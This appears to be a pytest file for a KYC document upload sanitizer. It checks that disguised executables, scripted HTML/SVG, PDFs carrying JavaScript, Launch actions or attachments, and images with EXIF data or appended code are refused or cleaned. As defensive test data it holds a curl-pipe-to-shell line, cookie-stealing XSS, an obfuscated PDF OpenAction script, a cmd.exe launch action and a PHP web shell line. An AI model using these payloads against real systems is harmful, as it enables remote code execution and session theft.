"""What counts as an identity document (conectar.platform.uploads.clean_document), and the file
builders the other KYC tests use."""

from __future__ import annotations

import io

import pytest
from PIL import Image
from pypdf import PdfWriter

from conectar.platform.uploads import clean_document
from conectar.shared.errors import UnsupportedMediaType


def pdf_bytes(*, catalog_extra: bytes = b"", objects: tuple[bytes, ...] = (), text: bytes = b"DNI 12345678") -> bytes:
    """A small, valid one-page PDF with a correct cross-reference table. `catalog_extra` goes into
    the catalog dictionary, `objects` become objects 5, 6, …"""
    content = b"BT /F1 12 Tf 20 100 Td (" + text + b") Tj ET"
    body = [
        b"<< /Type /Catalog /Pages 2 0 R " + catalog_extra + b">>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        *objects,
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, obj in enumerate(body, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + obj + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(body) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(body) + 1, xref))
    return out.getvalue()


def encrypted_pdf_bytes() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(300, 200)
    writer.encrypt("secreta", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def image_bytes(fmt: str = "JPEG", size=(64, 48), *, exif: bool = False) -> bytes:
    image = Image.new("RGB", size, (30, 120, 200))
    out = io.BytesIO()
    options = {}
    if exif:
        tags = Image.Exif()
        tags[0x8825] = {2: (34.0, 36.0, 12.0)}  # GPSInfo
        tags[0x010F] = "SecretCam"  # Make
        options["exif"] = tags
    image.save(out, format=fmt, **options)
    return out.getvalue()


JS_ACTION = b"<< /S /JavaScript /JS (app.alert('hola')) >>"

# (content, name): all of them must be refused by content, whatever they are called.
NOT_DOCUMENTS = {
    "windows executable named .pdf": (b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 120 + b"PE\x00\x00", "dni.pdf"),
    "linux executable named .pdf": (b"\x7fELF\x02\x01\x01" + b"\x00" * 120, "dni.pdf"),
    "shell script named .pdf": (b"#!/bin/sh\ncurl http://x | sh\n", "dni.pdf"),
    "html with a script": (b"<html><body><script>alert(document.cookie)</script></body></html>", "dni.html"),
    "script named .png": (b"<script>alert(1)</script>", "selfie.png"),
    "svg with a script": (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "dni.svg"),
    "pdf header with nothing behind it": (b"%PDF-1.7\n<script>alert(1)</script>\n", "dni.pdf"),
    "pdf that does not parse": (b"%PDF-1.4\nesto no es un pdf\n%%EOF\n", "dni.pdf"),
    "pdf with an open action script": (pdf_bytes(catalog_extra=b"/OpenAction 5 0 R ", objects=(JS_ACTION,)), "dni.pdf"),
    "pdf with a hidden name-escaped script": (
        pdf_bytes(catalog_extra=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> "),
        "dni.pdf",
    ),
    "pdf with a bare script entry": (pdf_bytes(catalog_extra=b"/OpenAction << /JS (app.alert(1)) >> "), "dni.pdf"),
    "pdf with an xfa form": (
        pdf_bytes(catalog_extra=b"/AcroForm << /Fields [] /XFA 5 0 R >> ", objects=(b"[]",)),
        "dni.pdf",
    ),
    "pdf with a launch action": (pdf_bytes(catalog_extra=b"/OpenAction << /S /Launch /F (cmd.exe) >> "), "dni.pdf"),
    "pdf with an attachment": (
        pdf_bytes(catalog_extra=b"/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >> ", objects=(b"<< >>",)),
        "dni.pdf",
    ),
    "encrypted pdf": (encrypted_pdf_bytes(), "dni.pdf"),
    "gif image": (image_bytes("GIF"), "dni.gif"),
    "webp image": (image_bytes("WEBP"), "dni.webp"),
    "truncated jpeg": (image_bytes("JPEG")[:150], "dni.jpg"),
}


@pytest.mark.parametrize("case", sorted(NOT_DOCUMENTS))
def test_anything_but_a_clean_pdf_jpeg_or_png_is_refused(case):
    content, _ = NOT_DOCUMENTS[case]
    with pytest.raises(UnsupportedMediaType):
        clean_document(content)


def test_a_valid_pdf_is_kept_byte_for_byte():
    data = pdf_bytes()
    document = clean_document(data)
    assert (document.content_type, document.extension) == ("application/pdf", "pdf")
    assert document.content == data


def test_bytes_appended_after_the_end_of_a_pdf_are_dropped():
    data = pdf_bytes()
    document = clean_document(data + b"<html><script>alert(1)</script></html>")
    assert document.content == data
    assert b"<script>" not in document.content


@pytest.mark.parametrize(("fmt", "content_type"), [("JPEG", "image/jpeg"), ("PNG", "image/png")])
def test_images_are_re_encoded_without_metadata(fmt, content_type):
    data = image_bytes(fmt, exif=True) + b"<?php system($_GET['c']); ?>"
    document = clean_document(data)
    assert document.content_type == content_type
    assert b"SecretCam" not in document.content
    assert b"<?php" not in document.content
    assert Image.open(io.BytesIO(document.content)).format == fmt
